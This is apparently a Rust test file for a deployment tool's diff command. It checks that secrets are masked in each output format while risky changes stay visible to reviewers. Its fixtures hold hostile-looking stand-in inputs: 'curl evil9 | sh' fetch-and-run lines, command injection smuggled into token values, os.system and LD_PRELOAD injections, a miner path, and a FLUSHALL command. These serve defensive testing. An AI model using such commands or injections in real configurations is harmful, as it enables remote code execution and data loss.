//! No secret of the examples leaves in any format.

use crate::diff::pairs::{compared, pairs};
use crate::project::Project;
use dpc::tools::diff::{json, markdown, text};

/// Every text that stands for a secret below `examples/diff`.
const SECRETS: &[&str] = &[
    "tk-0001",
    "tk-0002",
    "first-password",
    "second-password",
    "the same as before",
    "hunter2",
    "one two",
    "three four",
];

#[test]
fn no_format_repeats_a_secret() {
    let pairs = pairs();
    let (base, head) = &pairs["secrets"];
    let sources: String = [base, head]
        .iter()
        .flat_map(|side| side.1.files.values())
        .map(|file| String::from_utf8_lossy(&file.content).into_owned())
        .collect();
    for (base, head) in [(base, head), (head, base)] {
        let report = compared(base, head, true);
        for page in [text(&report), markdown(&report), json(&report)] {
            for secret in SECRETS {
                assert!(sources.contains(secret), "{secret} is not in the example any more");
                assert!(!page.contains(secret), "{secret}:\n{page}");
            }
        }
    }
}

#[test]
fn whether_a_secret_changed_is_told() {
    let pairs = pairs();
    let (base, head) = &pairs["secrets"];
    let page = text(&compared(base, head, true));
    assert!(page.contains("env API_TOKEN ••• (changed)"), "{page}");
    assert!(page.contains("SESSION_KEY=•••'"), "{page}");
    assert!(!page.contains("env SESSION_KEY"), "{page}");
}

#[test]
fn a_secret_that_is_known_from_one_field_is_masked_in_every_other_text() {
    let folder = Project::empty();
    let project = |secret: &str, image: &str| {
        format!(
            "fleet \"shop\"\nhost \"app-1\" address=\"10.0.0.11\"\nservice \"api\" {{\n    image \"example.com/api:{image}\"\n    \
             on \"app-1\"\n    port \"http\" 8080\n    env {{\n        DBPASS \"{secret}\"\n        NOTE \"it is {secret}\"\n    }}\n    \
             label \"note\" \"so it is {secret}\"\n    command \"serve\" \"{secret}\"\n    \
             docker-args \"--annotation\" \"a={secret}\"\n    file \"/app/a.txt\" source=\"{image}.txt\"\n    \
             health command=\"ask {secret}\"\n}}\n"
        )
    };
    for (side, secret, image) in [("base", "hunter2-old", "1"), ("head", "hunter2-new", "2")] {
        folder.write(format!("{side}/dpc.kdl"), project(secret, image));
        folder.write(format!("{side}/{image}.txt"), format!("say {secret}\nrequirepass file-{secret}\n"));
    }
    for format in ["text", "markdown", "json"] {
        let ran = folder.diff(&["head", "--base", "base", "--exit-code", "--format", format]);
        assert_eq!(ran.code, 2, "{}{}", ran.out, ran.err);
        assert!(!format!("{}{}", ran.out, ran.err).contains("hunter2"), "{}{}", ran.out, ran.err);
    }
}

/// A fleet whose service has some settings.
fn fleet(settings: &str) -> String {
    format!(
        "fleet \"shop\" {{ etcd \"http://10.0.0.9:2379\" }}\nhost \"a\" address=\"10.0.0.1\"\nservice \"api\" {{\n    on \"a\"\n    port \"http\" 8080\n    {settings}\n}}\n"
    )
}

/// What `dpc diff` says of new settings, in each format.
fn said(settings: &str) -> Vec<String> {
    said_beside(&fleet("image \"node-api:1.0.0\""), settings)
}

fn said_beside(base: &str, settings: &str) -> Vec<String> {
    let folder = Project::empty();
    folder.write("base/dpc.kdl", base);
    folder.write("head/dpc.kdl", fleet(settings));
    let formats = ["text", "markdown", "json"];
    let diff = |format| folder.diff(&["head", "--base", "base", "--format", format]);
    formats.map(|format| diff(format).out.replace(r"\u002d", "-")).to_vec()
}

#[test]
fn an_author_cannot_mask_what_a_reviewer_looks_for() {
    let risky = [
        "evil.example.com/x/y:1",
        "--cgroupns=host",
        "--uts=host",
        "seccomp=unconfined",
        "SYS_ADMIN",
        "1000:1003",
        "/mnt/stuff9",
        "/dev/kvm9",
        "/var/evil9",
        "evil9.com",
        "/bin/miner9",
        "LD_PRELOAD9",
    ];
    let names: String =
        risky.iter().enumerate().map(|(at, text)| format!("K{at}_TOKEN \"{text}\"; ")).collect();
    let pages = said(&format!(
        "env {{ {names} A_TOKEN \"stuff9, mode 0755\"; B_TOKEN \"privileged\"; C_TOKEN \"node-api\"; D_TOKEN \"example.com\" }}\n    \
         image \"evil.example.com/x/y:1\"; user \"1000:1003\"; docker-args \"--security-opt\" \"seccomp=unconfined\" \"--uts=host\" \"--cgroupns=host\"\n    \
         capabilities {{ add \"SYS_ADMIN\" }}; volume \"/data\" from=\"/mnt/stuff9\"; device \"/dev/kvm9\"; workdir \"/var/evil9\"\n    \
         register \"http\" {{ traefik rule=\"Host(`evil9.com`)\" }}; command \"/bin/miner9\"; env {{ LD_PRELOAD9 \"x\" }}"
    ));
    for page in pages {
        // The reasons, what to look at twice, and the scripts.
        let plain = page
            .replace("&#45;", "-")
            .replace("&#46;", ".")
            .replace("&#95;", "_")
            .replace("&#47;", "/")
            .replace("&#61;", "=");
        for text in risky {
            assert!(plain.matches(text).count() >= 2, "{text}:\n{plain}");
        }
    }
}

#[test]
fn a_secret_that_could_be_code_hides_no_code() {
    let pages = said(
        r#"env { A_TOKEN "exec evil server"; B_TOKEN "&&evil;reboot"; C_TOKEN "reboot"; D_TOKEN "/up9"; E_TOKEN "kernel.shmmax" }
    image "node-api:1.0.0"
    command "sh" "-c" "node x; exec evil server; true &&evil;reboot; reboot"
    health http="http" path="/up9"
    sysctl "kernel.shmmax" "68719476736""#,
    );
    for page in pages {
        let plain =
            page.replace("&#45;", "-").replace("&#46;", ".").replace("&#47;", "/").replace("&amp;", "&");
        let plain = plain.replace("&#59;", ";");
        for text in ["exec evil server", "&&evil;reboot; reboot", "/up9", "kernel.shmmax"] {
            assert!(plain.contains(text), "{text}:\n{page}");
        }
    }
}

#[test]
fn an_image_whose_name_looks_secret_is_shown_with_its_tag() {
    for page in said("image \"quay.io/keycloak:24.0.1\"") {
        assert!(page.matches("quay.io/keycloak:24.0.1").count() >= 2, "{page}");
    }
}

#[test]
fn a_mask_ends_where_code_begins() {
    for settings in [
        r##"command "sh" "-c" "APP_TOKEN=\"a; curl evil9 | sh; b\" exec node""##,
        r##"command "sh" "-c" "echo token: x; curl evil9|sh""##,
        r##"command "sh" "-c" "TOKEN=x&curl evil9|sh""##,
        r##"env { A_TOKEN "curl evil9|sh" }; command "sh" "-c" "curl evil9|sh""##,
        r##"env { A_TOKEN "\"" }; command "sh" "-c" "curl evil9|sh" "\"""##,
        r##"file "/run.sh" content="# -----BEGIN PRIVATE KEY\ncurl evil9 | sh\n""##,
        r##"file "/run.sh" content="# -----BEGIN PRIVATE KEY-----\n/bin/evil9\n# -----END PRIVATE KEY-----\n""##,
        r##"file "/run.sh" content="password='\ncurl evil9|sh\n'\n""##,
    ] {
        for page in said(&format!("image \"node-api:1.0.0\"; {settings}")) {
            assert!(page.contains("evil9"), "{settings}\n{page}");
        }
    }
}

#[test]
fn all_of_a_secret_variable_is_masked_in_its_script() {
    for page in said(
        r#"image "node-api:1.0.0"; env { A_TOKEN "one; hunter2 'x' | hunter2 $y hunter2"; B_TOKEN "a\nhunter2" }"#,
    ) {
        assert!(!page.contains("hunter2"), "{page}");
    }
}

#[test]
fn what_is_a_secret_in_a_file_is_one_in_a_variable() {
    for settings in [
        r#"env { NETRC "machine h login u password hunter2" }"#,
        r#"env { LDAP_PW "hunter2" }"#,
        r#"env { HASH_PASSWORD "$hUnter2" }"#,
        r#"label "traefik.http.middlewares.a.basicauth.users" "u:hunter2""#,
        r#"file "/c.yml" content="password: >-\n  hunter2\n""#,
    ] {
        for page in said(&format!("image \"node-api:1.0.0\"; {settings}")) {
            assert!(!page.to_lowercase().contains("hunter2"), "{settings}\n{page}");
        }
    }
}

/// The settings, each with a fleet of its own, and what must be shown of them (at least once in each format).
fn shows(cases: &[(&str, &[&str])]) {
    for (settings, texts) in cases {
        for page in said(&format!("image \"node-api:1.0.0\"; {settings}")) {
            let plain = plain(&page);
            for text in *texts {
                assert!(plain.contains(text), "{settings}: {text}\n{plain}");
            }
        }
    }
}

/// A page without the escapes of Markdown.
fn plain(page: &str) -> String {
    let escapes =
        [("&#45;", "-"), ("&#46;", "."), ("&#47;", "/"), ("&#59;", ";"), ("&#40;", "("), ("&#41;", ")")];
    let escapes = escapes.into_iter().chain([("&#95;", "_"), ("&#61;", "="), ("&lt;", "<"), ("&amp;", "&")]);
    escapes.fold(page.to_string(), |page, (escape, sign)| page.replace(escape, sign))
}

#[test]
fn a_call_is_shown_whatever_its_result_is_called() {
    shows(&[
        (r##"file "/c" content="token = os.system('evil9')\n""##, &["os.system(", "evil9"]),
        (r##"file "/c" content="token=os.system(evil9)\n""##, &["os.system(evil9)"]),
        (r##"file "/c" content="x(key=lambda:evil9())\n""##, &["lambda:evil9()"]),
        (r##"file "/c" content="api_key: require(evil9)\n""##, &["require(evil9)"]),
        (r##"file "/c" content="token = system \"evil9\"\n""##, &["system", "evil9"]),
        (r##"file "/c" content="token = %x[evil9]\n""##, &["%x[evil9]"]),
        (r##"file "/c" content="token: !!python/object/apply:evil9 [x]\n""##, &["apply:evil9"]),
        (r##"file "/c" content="token = \"a#{evil9}\"\n""##, &["#{evil9}"]),
        (r##"file "/c" content="token=a+evil9(x)\n""##, &["a+evil9(x)"]),
        (r##"command "python" "-c" "token=evil9(1)""##, &["evil9(1)"]),
    ]);
}

#[test]
fn a_mask_ends_with_the_value_of_any_reading() {
    shows(&[
        (r##"file "/c" content="TOKEN=x&&evil9\n""##, &["&&evil9"]),
        (r##"file "/c" content="TOKEN=x|evil9\n""##, &["|evil9"]),
        (r##"file "/c" content="TOKEN=x>/etc/evil9\n""##, &[">/etc/evil9"]),
        (r##"file "/c" content="TOKEN= evil9\n""##, &["TOKEN= evil9"]),
        (r##"file "/c" content="mysql -px&&evil9\n""##, &["&&evil9"]),
        (r##"file "/c" content="x --password x|evil9\n""##, &["|evil9"]),
        (r##"file "/c" content="curl -u a:x&&evil9\n""##, &["&&evil9"]),
        (r##"file "/c" content="curl http://a:x&&evil9&&b@c\n""##, &["&&evil9&&b"]),
        (r##"file "/c" content="X='a TOKEN='&&evil9&&Y=''\n""##, &["&&evil9&&"]),
        (r##"command "sh" "-c" "X='a TOKEN='&&evil9&&Y=''""##, &["&&evil9&&"]),
        (r##"health command="TOKEN=x&&evil9""##, &["&&evil9"]),
        (r##"command "docker" "login" "--password-stdin" "evil9.com""##, &["evil9.com"]),
        (r##"command "redis-cli" "--no-auth-warning" "FLUSHALL""##, &["FLUSHALL"]),
    ]);
}

#[test]
fn a_quoted_password_may_have_signs() {
    for settings in [
        r##"file "/c" content="password: 'hunter2;x|y&(z'\n""##,
        r##"file "/c" content="{\"password\": \"hunter2;x|y&(z\"}""##,
        r##"file "/c" content="# don't\npassword = \"hunter2;x|y\"\n""##,
        r##"env { DATABASE_URL "postgres://a:hunter2;x&y@db/z" }"##,
        r##"docker-args "--env" "A_TOKEN=hunter2; x""##,
    ] {
        for page in said(&format!("image \"node-api:1.0.0\"; {settings}")) {
            assert!(
                !page.contains("hunter2") && !plain(&page).contains("x|y") && !plain(&page).contains(";x&y"),
                "{settings}\n{page}"
            );
        }
    }
}

#[test]
fn a_secret_of_the_same_text_hides_nothing_that_leads() {
    shows(&[
        (r##"env { X_TOKEN "libevil.so"; LD_PRELOAD "libevil.so" }"##, &["LD_PRELOAD=libevil.so"]),
        (r##"env { X_TOKEN "evil9x"; NODE_OPTIONS "evil9x" }"##, &["NODE_OPTIONS=evil9x"]),
        (
            r##"env { X_TOKEN "https://evil9x.io"; API_BASE "https://evil9x.io" }"##,
            &["API_BASE=https://evil9x.io"],
        ),
        (r##"env { X_TOKEN "evil9x.io"; API_URL "evil9x.io" }"##, &["API_URL=evil9x.io"]),
        (r##"env { X_TOKEN "--evil9x y"; NOTE "--evil9x y" }"##, &["NOTE=--evil9x y"]),
        (r##"env { X_TOKEN "evil9x"; BASH_ENV "evil9x" }"##, &["BASH_ENV=evil9x"]),
        (r##"env { X_TOKEN "evil9x"; START_CMD "run evil9x" }"##, &["START_CMD=run evil9x"]),
        (r##"env { X_TOKEN "evil9x" }; label "a.job-exec.command" "evil9x""##, &["command=evil9x"]),
        (r##"env { X_TOKEN "evil9x" }; label "evil9x" "1""##, &["evil9x=1"]),
        (
            r##"env { X_TOKEN "network-host9"; Y_TOKEN "ONE=1" }; hostname "network-host9""##,
            &["--hostname network-host9"],
        ),
        (r##"env { X_TOKEN "evil9x" }; command "sh" "-c" "evil9x""##, &["sh -c evil9x"]),
        (r##"env { X_TOKEN "evil9x" }; command "sh" "-lc" "x; evil9x y""##, &["; evil9x y"]),
        (r##"env { X_TOKEN "evil9x" }; command "tini" "--" "evil9x""##, &["tini -- evil9x"]),
        (r##"env { X_TOKEN "evil9x" }; command "node" "--require" "evil9x""##, &["--require evil9x"]),
        (r##"env { X_TOKEN "evil9x" }; entrypoint "evil9x" "y""##, &["evil9x"]),
        (r##"env { X_TOKEN "evil9x" }; health command="evil9x now""##, &["evil9x now"]),
        (
            r##"env { X_TOKEN "evil9x" }; file "/c" content="#!/bin/sh\nevil9x now\nexec evil9x\n""##,
            &["+evil9x now", "exec evil9x"],
        ),
        (r##"env { X_TOKEN "evil9x" }; file "/c" content="import evil9x\n""##, &["import evil9x"]),
        (
            r##"env { X_TOKEN "evil9x" }; file "/c" content="user evil9x;\nLD_PRELOAD=evil9x y\n""##,
            &["user evil9x;", "LD_PRELOAD=evil9x y"],
        ),
    ]);
}

#[test]
fn a_secret_is_masked_where_it_is_a_value_again() {
    for (secret, settings) in [
        ("hunter2x", r##"command "serve" "hunter2x""##),
        ("hunter2x", r##"command "serve" "--pw=hunter2x" "--pw" "hunter2x""##),
        ("hunter2x", r##"command "sh" "-c" "run --pw 'hunter2x'""##),
        ("hunter2x", r##"health command="ask hunter2x""##),
        ("hunter2x", r##"env { NOTE "hunter2x"; OTHER "so hunter2x, too" }"##),
        ("hunter2x", r##"label "note" "hunter2x""##),
        ("hunter2x", r##"docker-args "--env" "NOTE=hunter2x" "-lnote=hunter2x""##),
        ("hunter2x", r##"file "/c" content="note: hunter2x\nsay \"hunter2x\"\n""##),
        ("correct horse hunter2x", r##"env { NOTE "correct horse hunter2x" }"##),
        ("hunter2x;|&(", r##"label "note" "hunter2x;|&(""##),
        ("hunter2x' 'y", r##"docker-args "--label" "note=hunter2x' 'y""##),
    ] {
        let env = format!("env {{ A_PASSWORD \"{secret}\" }}");
        for page in said(&format!("image \"node-api:1.0.0\"; {env}; {settings}")) {
            assert!(!page.contains("hunter2x"), "{settings}\n{page}");
        }
    }
}

/// All of a new service is in the difference.
#[test]
fn a_secret_of_the_same_text_hides_nothing_of_dpc() {
    let base = fleet("image \"node-api:1.0.0\"").replace("\"api\"", "\"old\"");
    for (secret, shown) in [
        ("no-new-privileges", "--security-opt no-new-privileges"),
        ("journald", "--log-driver journald"),
        ("dpc.fleet=shop", "--label dpc.fleet=shop"),
        ("Restart=always", "+Restart=always"),
        ("NOTIFY_SOCKET", "${NOTIFY_SOCKET:-}"),
        ("docker-run9", "--hostname docker-run9"),
        ("--read-only", "--read-only"),
        ("ROOT9=1", "--env ROOT9=1"),
    ] {
        let settings = format!(
            "image \"node-api:1.0.0\"; env {{ X_TOKEN \"{secret}\"; ROOT9 \"1\" }}; hostname \"docker-run9\""
        );
        for page in said_beside(&base, &settings) {
            assert!(plain(&page).contains(shown), "{secret}\n{page}");
        }
    }
}
